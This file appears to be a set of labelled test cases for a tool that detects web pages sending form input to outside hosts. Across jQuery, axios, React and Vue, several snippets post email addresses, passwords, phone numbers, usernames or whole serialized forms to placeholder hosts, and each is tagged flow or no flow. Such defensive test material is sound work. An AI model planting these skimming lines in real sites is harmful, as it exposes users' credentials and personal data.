//# jquery-ajax
// flow: email > jq.fw2.example via xhr
$.ajax({ url: 'https://jq.fw2.example/', type: 'POST', data: { m: $('input[type=email]').val() } });

//# jquery-selector-only
// no flow
// why: the jQuery object is asked for its number of elements only
$.ajax({ url: 'https://jq0.fw2.example/', type: 'POST', data: { n: $('input[type=email]').length } });

//# jquery-post-click
// flow: password > jqp.fw2.example via xhr
// guard: event click
$('#go').on('click', function () {
  $.post('https://jqp.fw2.example/', { pw: $('input[type=password]').val() });
});

//# jquery-val-set
// no flow
// why: val() with an argument sets the field
$('input[type=password]').val('');
$.post('https://jqp0.fw2.example/', { reset: 1 });

//# axios-post
// flow: phone > ax.fw2.example via xhr
axios.post('https://ax.fw2.example/', { tel: document.querySelector('input[type=tel]').value });

//# axios-fixed
// no flow
// why: the value is only compared and logged
const tel0 = document.querySelector('input[type=tel]').value;
console.log(tel0.length > 5);
axios.post('https://ax0.fw2.example/', { step: 2 });

//# axios-base-url
// flow: identifier > base.fw2.example via xhr
const http = axios.create({ baseURL: 'https://base.fw2.example' });
http.get('/me', { params: { id: localStorage.getItem('uid') } });

//# react-on-change
// flow: email > rc.fw2.example via fetch
// guard: event change
function EmailBox() {
  return React.createElement('input', {
    type: 'email',
    onChange: (e) => fetch('https://rc.fw2.example/', { method: 'POST', body: e.target.value }),
  });
}
ReactDOM.createRoot(document.getElementById('root')).render(React.createElement(EmailBox));

//# react-state-only
// no flow
// why: the value goes into the component's state only
function Box() {
  const [v, setV] = React.useState('');
  return React.createElement('input', { type: 'email', value: v, onChange: (e) => setV(e.target.value) });
}
ReactDOM.createRoot(document.getElementById('root')).render(React.createElement(Box));
fetch('https://rc0.fw2.example/view');

//# vue-method
// flow: username > vue.fw2.example via fetch
// guard: event click
// why: v-model binds the field to the data, the button calls save
new Vue({
  el: '#app',
  template: '<form><input autocomplete="username" v-model="user"><button @click.prevent="save">Go</button></form>',
  data: { user: '' },
  methods: {
    save() { fetch('https://vue.fw2.example/', { method: 'POST', body: this.user }); },
  },
});

//# vue-other-data
// no flow
// why: the method sends `step`, which no field is bound to
new Vue({
  el: '#app',
  template: '<form><input autocomplete="username" v-model="user"><button @click.prevent="save">Go</button></form>',
  data: { user: '', step: 'one' },
  methods: {
    save() { fetch('https://vue0.fw2.example/', { method: 'POST', body: this.step }); },
  },
});

//# jquery-get-script
// flow: device > gs.fw2.example via script
$.getScript('https://gs.fw2.example/t.js?w=' + screen.width);

//# jquery-text-set
// no flow
// why: the language is put into the page
$('#lang').text(navigator.language);
$.get('https://gs0.fw2.example/');

//# jquery-serialize
// flow: input > ser.fw2.example via xhr
// why: serialize() reads all fields of a form whose kinds are not known
$.post('https://ser.fw2.example/', $('form#contact').serialize());

//# jquery-has-class
// no flow
// why: hasClass gives a boolean about the page
$.post('https://hc0.fw2.example/', { bad: $('input[type=password]').hasClass('error') });

//# jquery-off
// no flow
// why: the handler is taken off again in the same run
$('#go').on('click.x', function () {
  $.post('https://off0.fw2.example/', { pw: $('input[type=password]').val() });
});
$('#go').off('click.x');

//# axios-instance-unused
// no flow
// why: the instance is made and no request follows
const http0 = axios.create({ baseURL: 'https://unused0.fw2.example', headers: { 'X-Id': localStorage.getItem('uid') } });
console.log(typeof http0.get);
